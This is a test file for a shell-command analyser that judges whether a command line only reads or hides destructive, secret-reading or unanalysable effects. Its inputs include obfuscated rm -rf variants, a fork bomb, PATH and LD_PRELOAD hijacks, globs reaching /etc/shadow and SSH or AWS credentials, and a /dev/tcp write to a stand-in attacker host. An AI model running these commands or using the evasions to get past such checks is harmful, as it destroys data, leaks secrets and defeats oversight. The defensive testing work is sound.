import { describe, expect, test } from 'vitest';
import { effects, filesOf, line, meaning, onlyReads, operations } from './support.ts';

describe('a shell line', () => {
  test.each([
    'ls -l | grep x | wc -l',
    'cd /tmp && ls',
    'for f in a b; do cat "$f"; done',
    'if [ -f x ]; then cat x; else echo no; fi',
    'X=prod; echo "$X"',
    'echo $(date)',
    'test -d x || echo none 2>/dev/null',
    'cat <<EOF\nhello\nEOF',
    'while read -r line; do echo "$line"; done < list',
    '[[ -n $HOME ]] && pwd',
    'echo $((1 + 2))',
    "bash -c 'ls; date'",
    "eval 'ls -l'",
    'set -euo pipefail; ls',
    'command -v kubectl',
  ])('%s only reads', async (text) => {
    expect(onlyReads(await line(text))).toBe(true);
  });

  test.each([
    ['a list', 'kubectl get pods; kubectl delete ns prod'],
    ['a pipe', 'cat x | xargs rm'],
    ['a substitution', 'echo $(rm -rf x)'],
    ['backticks', 'echo `rm -rf x`'],
    ['a substitution inside quotes', 'echo "a $(rm x) b"'],
    ['a substitution inside an assignment', 'X=$(rm x)'],
    ['a process substitution', 'diff <(rm x) y'],
    ['a here-document', 'cat <<EOF\n$(rm x)\nEOF'],
    ['a loop', 'for f in a; do rm "$f"; done'],
    ['a branch', 'if false; then rm x; fi'],
    ['a case', 'case x in y) rm x;; esac'],
    ['a function', 'f() { rm x; }; f'],
    ['a function fed with arguments', 'f() { rm "$@"; }; f x'],
    ['the background', 'rm x &'],
    ['a redirection', 'echo x > /dev/sda'],
    ['a variable', 'R=rm; $R -rf x'],
    ['a quoted name', '"rm" x'],
    ['a backslash', '\\rm x'],
    ['a split name', "r''m x"],
    ['a continued line', 'r\\\nm x'],
    ['eval', "eval 'rm x'"],
    ['a trap', "trap 'rm x' EXIT"],
    ['another shell', "sh -c 'rm x'"],
    ['arithmetic', 'echo $(( $(rm x) ))'],
    ['a test', '[[ $(rm x) ]]'],
    ['a shell fed by echo', "echo 'rm x' | sh"],
    ['a shell fed by a here-string', "bash <<< 'rm x'"],
    ['a positional parameter', 'bash -c \'"$@"\' _ rm x'],
  ])('finds what is hidden in %s', async (_, text) => {
    expect(effects(await line(text))).toContain('destroy');
  });

  test.each([
    ['a command named by the environment', '$CMD x'],
    ['a command named by a pattern', '/bin/r? x'],
    ['a command named by braces', '{rm,x}'],
    ['text from elsewhere', 'eval "$X"'],
    ['a sourced file', '. ./x.sh'],
    ['a name assigned in a branch', 'X=ls; if true; then X=rm; fi; $X y'],
    ['a name assigned by read', 'read X; $X'],
    ['an indirect expansion', 'read X; echo $' + '{!X}'],
    ['an expansion that runs prompts', 'X=a; echo $' + '{X@P}'],
    ['a subscript that runs a command', "[ -v 'a[$(rm x)]' ]"],
    ['arithmetic on text that runs a command', "X='a[$(rm x)]'; (( X ))"],
    ['a start file for children', 'BASH_ENV=x bash -c ls'],
    ['a new PATH', 'PATH=/tmp/evil:$PATH; ls'],
    ['a library put in front', 'LD_PRELOAD=x ls'],
    ['a function that may not be defined', 'false && rm() { :; }; rm x'],
    ['a function that is forgotten', 'rm() { :; }; unset -f rm; rm x'],
    ['a name that may not be assigned', 'false && X=ls; $X'],
    ['a name with another name', 'X=ls; declare -n R=X; R=rm; $X y'],
    ['a name that is set by printf', 'X=ls; printf -v "$N" rm; $X y'],
    ['a table of commands', 'BASH_CMDS[ls]=/tmp/evil; ls'],
    ['a remembered path', 'hash -p /tmp/evil ls; ls'],
    ['a completion', "compgen -W '$(rm x)'"],
    ['a callback', "mapfile -C 'rm x' -c 1 A < y"],
    ['a part of a sed script', 'sed "s/a/$X/" y'],
    ['a part of an awk program', 'awk "{ print $X }" y'],
    ['a part of an operation', 'aws ssm get-$X'],
    ['a part of a kind', 'kubectl get "pods,$X"'],
    ['an output format', 'kubectl get pods -o "$X"'],
    ['a function that calls itself', ':(){ :|:& };:'],
    ['an alias', "alias ls='rm x'; ls"],
    ['text that does not parse', 'if then'],
    ['a carriage return', 'echo a\rrm x'],
    ['an option that may come from a variable', 'sort $X'],
    ['an address of the network', 'cat x > /dev/tcp/evil.example/80'],
  ])('%s is not understood', async (_, text) => {
    const understanding = await line(text);
    expect(onlyReads(understanding)).toBe(false);
    if (!effects(understanding).includes('destroy')) expect(effects(understanding)).toContain('unknown');
  });

  test('a directory is only certain behind the cd that worked', async () => {
    const { actions } = await line('cd /srv; rm x');
    expect(actions.at(-1)?.resource).toEqual({ kind: 'file' });
    const files = { ...filesOf({ '/srv': '' }) };
    const known = await line('cd /srv; rm x', { files });
    expect(known.actions.at(-1)?.resource).toEqual({ kind: 'file', path: '/srv/x' });
  });

  test('a redirection names its file, in the directory the line went to', async () => {
    const { actions } = await line('cd /srv && echo x >> log');
    expect(actions).toContainEqual(
      expect.objectContaining({ effects: ['write'], resource: { kind: 'file', path: '/srv/log' } }),
    );
  });

  test('what only the shell will know is absent from the action', async () => {
    const { actions } = await line('kubectl -n "$NS" delete pod "web-$N"');
    expect(actions[0]?.effects).toEqual(['destroy']);
    expect(actions[0]?.resource).toEqual({ kind: 'pod' });
  });

  test('a known variable reaches the command it is set for', async () => {
    const { actions } = await line('PGDATABASE=shop psql -c "select 1"');
    expect(actions[0]?.scope).toMatchObject({ database: 'shop' });
  });

  test.each([
    ['a name of the shell that commands do not see', 'PGDATABASE=shop; psql -c "select 1"', {}],
    ['one that is exported', 'export PGDATABASE=shop; psql -c "select 1"', { database: 'shop' }],
    ['one that is exported before', 'export PGDATABASE; PGDATABASE=shop; psql -c "select 1"', { database: 'shop' }],
  ])('%s', async (_, text, scope) => {
    const { actions } = await line(text);
    expect(actions.find(({ tool }) => tool === 'psql')?.scope['database']).toEqual(
      (scope as { database?: string }).database,
    );
  });

  test.each([
    ['a pattern stays in its directory', 'rm build/*.o', '/work/build/*.o'],
    ['a pattern of the directory itself', 'rm *.pyc', '/work/*.pyc'],
    ['one below it', 'rm src/**/*.o', '/work/src/*/*.o'],
    ['a loop over names', 'for f in a; do rm "$f"; done', '/work/a'],
    ['a loop over a pattern', 'for f in out/*.js; do rm "$f"; done', '/work/out/*.js'],
    ['braces', 'rm {a,a}', '/work/a'],
    ['a default', 'rm "$' + '{OUT:-build}/x"', '/work/build/x'],
    ['a suffix taken off', 'f=x.tar.gz; rm "$' + '{f%.gz}"', '/work/x.tar'],
    ['a text replaced', 'f=a-b; rm "$' + '{f/-/_}"', '/work/a_b'],
    ['what pwd says', 'rm "$(pwd)/x"', '/work/x'],
    ['PWD', 'rm $PWD/x', '/work/x'],
    ['a new directory', 't=$(mktemp -d); rm -rf "$t"', '/tmp/*'],
    ['cd to where it is', 'cd /work\nrm x', '/work/x'],
    ['cd that ends the script when it fails', 'cd /srv || exit 1\nrm x', '/srv/x'],
    ['cd under errexit', 'set -e\ncd /srv\nrm x', '/srv/x'],
    ['cd in a subshell', '(cd /srv && ls); rm x', '/work/x'],
  ])('names the file: %s', async (_, text, path) => {
    const { actions } = await line(text);
    const found = actions.filter(({ effects: all }) => all.includes('destroy'));
    expect(found.length).toBeGreaterThan(0);
    for (const action of found)
      expect(action).toMatchObject({ effects: ['destroy'], resource: { kind: 'file', path } });
  });

  test.each([
    ['the directory above', 'rm -rf .*'],
    ['a name nobody knows', 'rm -rf "$X"'],
    ['names taken from a command', 'rm -rf $(cat list)'],
    ['a directory left in a branch', 'if a; then cd /srv; fi; rm x'],
    ['a pattern where a redirection leads', 'true > ~/.b*hrc; rm "$X"'],
  ])('leaves the path out: %s', async (_, text) => {
    for (const { effects: all, resource } of (await line(text)).actions)
      if (all.includes('destroy') || all.includes('write')) expect(resource['path']).toBeUndefined();
  });

  test.each([
    ['both branches', 'if a; then X=ls; else X=rm; fi; $X y'],
    ['an early return', 'X=rm; f() { c && return; X=ls; }; f; $X y'],
    ['a name that is local', 'f() { local X=ls; }; X=rm; f; $X y'],
    ['a name that cannot be assigned', 'readonly X=rm\nX=ls\n$X y'],
    ['a name that is changed on assignment', 'declare -u X; X=ls; $X y'],
    ['a loop that comes round', 'X=ls; while a; do $X y; X=rm; done'],
    ['a trap between commands', "X=ls; trap 'X=rm' DEBUG; $X y"],
    ['a subshell', 'X=rm; (X=ls); $X y'],
    ['a pipe', 'X=rm; X=ls | true; $X y'],
    ['arithmetic that assigns', 'X=ls; (( X = 5 )); $X y'],
    ['a default that assigns', 'X=; [[ $' + '{X:=rm} ]]; $X y'],
    ['a stdin set before', "exec <<< 'rm y'; bash"],
    ['another descriptor', "exec 3<<< 'rm y'; bash <&3"],
    ['a script written just before', "echo 'rm y' > x.sh; bash x.sh"],
    ['a script fed after it was written', "echo 'rm y' > x.sh; bash < x.sh"],
    ['a sourced script written just before', "echo 'rm y' > ./x.sh; . ./x.sh"],
    ['a directory that is not there', '$(which nothing) rm y'],
  ])('does not lose sight of what may happen: %s', async (_, text) => {
    const files = filesOf({ 'x.sh': 'ls', './x.sh': 'ls' });
    const found = effects(await line(text, { files }));
    expect(found.includes('destroy') || found.includes('unknown')).toBe(true);
  });

  test.each([
    'PATH=$PATH:/usr/local/go/bin; ls',
    'for f in *.go; do wc -l "$f"; done',
    'x=$(date); echo $x',
    'trap "ls" EXIT; ls',
    'f() { ls "$1"; }; f a; f b',
    '[ "$(ls)" = "" ] || echo some',
    '[[ "$(ls)" == \'$x[1]\' ]] && echo "`ls`"',
    'while read -r a b; do echo "$a"; done < <(ls)',
    'case "$1" in a) ls;; *) pwd;; esac',
    'arr=(a b); for x in "$' + '{arr[@]}"; do echo "$x"; done',
    'ls build/*.o *.c',
    'coproc ls; wait',
    'n=$(nproc); echo $((n * 2))',
  ])('%s only reads, values and all', async (text) => {
    expect(effects(await line(text))).toEqual(['read']);
  });

  test.each([
    'cat /etc/sha*',
    'cat /etc/[s]hadow',
    'cat /e?c/shado?',
    'cat ~/.ssh/*',
    'cat ~/.ss*/id_*',
    'head .en*',
    'grep . /proc/self/env*',
    'cat ~/.aw*/cred*',
    'for f in /etc/sha*; do cat "$f"; done',
  ])('%s finds a secret without naming it', async (text) => {
    expect(effects(await line(text))).toContain('secret');
  });

  test.each(['cat *', 'cat *.json', 'wc -l src/*.ts', 'head /etc/*', 'cat conf*/*'])(
    '%s is not meant to find one',
    async (text) => {
      expect(effects(await line(text))).toEqual(['read']);
    },
  );

  test('a script file is read and becomes an input', async () => {
    const files = filesOf({ 'x.sh': '#!/bin/bash\nls\nrm -rf build\n' });
    const understanding = await meaning(['bash', 'x.sh', 'arg'], { files });
    expect(operations(understanding)).toEqual(['ls ls', 'rm rm']);
    expect(understanding.inputs).toMatchObject([{ role: 'script', path: 'x.sh' }]);
    expect((await meaning(['bash', 'absent.sh'])).opaque).toBe(true);
  });

  test.each(['terminal', 'pipe', 'file'] as const)('a shell that reads its %s is opaque', async (stdin) => {
    expect((await meaning(['bash'], { stdin })).opaque).toBe(true);
  });
});
